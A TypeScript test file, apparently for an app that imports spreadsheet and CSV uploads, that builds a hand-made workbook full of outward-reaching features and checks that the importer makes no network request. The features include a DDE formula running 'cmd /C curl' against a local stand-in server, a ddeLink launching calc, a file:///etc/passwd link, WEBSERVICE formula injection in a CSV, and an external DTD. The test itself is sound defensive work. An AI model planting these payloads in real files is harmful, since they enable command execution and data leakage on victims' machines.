import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { dropRoster, dropRubric } from '../support/drop-file.ts'
import { bytesOf, handWorkbook, inline, scheme, sheet } from '../support/hand-workbook.ts'
import { handZip } from '../support/hand-zip.ts'

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const asked: string[] = []
const server = createServer((request, response) => {
  asked.push(request.url ?? '')
  response.end('gotcha')
})
server.on('connection', () => asked.push('a connection'))
let outside = ''
beforeAll(async () => {
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
  outside = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})
afterAll(() => void server.close())

/** Every way to the outside that the format knows, in one workbook. */
function reaching(): Uint8Array {
  const to = (id: string, type: string, target: string) =>
    `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`
  const rows = scheme(
    `<row r="5"><c r="E5" t="str"><f>WEBSERVICE("${outside}/webservice")</f><v>seen</v></c></row>`,
    '<row r="6"><c r="E6" t="str"><f>[1]Sheet1!A1</f><v>seen</v></c></row>',
    `<row r="7"><c r="E7" t="str"><f>cmd|'/C curl ${outside}/dde'!A0</f><v>seen</v></c></row>`,
    `<row r="8">${inline('E8', `=IMAGE("${outside}/image")`)}</row>`,
    `<row r="9"><c r="E9" t="str"><f>HYPERLINK("${outside}/link")</f><v>seen</v></c></row>`,
  )
  const after = '<hyperlinks><hyperlink ref="A1" r:id="rId9"/></hyperlinks><drawing r:id="rId8"/>'
  const relations = `${to('rIdX', 'externalLink', `${outside}/book.xlsx`)}${to('rIdY', 'externalLink', 'file:///etc/passwd')}${to('rIdZ', 'worksheet', `${outside}/sheet.xml`)}<Relationship Id="rIdL" Type="${OFFICE}/externalLink" Target="externalLinks/externalLink1.xml"/>`
  const relationsOf = (...list: string[]) => bytesOf(`<Relationships>${list.join('')}</Relationships>`)
  return handZip([
    ...handWorkbook({ sheets: [sheet(rows, { after })], relations }),
    {
      name: 'xl/worksheets/_rels/sheet1.xml.rels',
      data: relationsOf(to('rId8', 'drawing', `${outside}/drawing`), to('rId9', 'hyperlink', `${outside}/hyperlink`)),
    },
    {
      name: 'xl/externalLinks/externalLink1.xml',
      data: bytesOf(
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/><externalBook r:id="rId1"/></externalLink>',
      ),
    },
    {
      name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
      data: relationsOf(to('rId1', 'externalLinkPath', `${outside}/path`)),
    },
    {
      name: 'xl/connections.xml',
      data: bytesOf(
        `<connections><connection id="1" type="4"><webPr url="${outside}/query"/></connection></connections>`,
      ),
    },
  ])
}

describe('a file that reaches outside', () => {
  it('is read for what it shows, and nobody outside is ever asked', async () => {
    const { answer } = await dropRubric(reaching())
    expect(answer.summary?.max).toBe(100_000)
    await dropRoster(reaching())
    await dropRoster(bytesOf(`姓名,单位\n"=WEBSERVICE(""${outside}/csv"")",甲厂`))
    const declared = `<!DOCTYPE a SYSTEM "${outside}/dtd"><worksheet/>`
    const [first, ...rest] = handWorkbook({ sheets: [sheet(scheme())] })
    await dropRubric(handZip([{ ...first!, data: bytesOf(declared) }, ...rest]))
    expect(asked).toEqual([])
  })
})
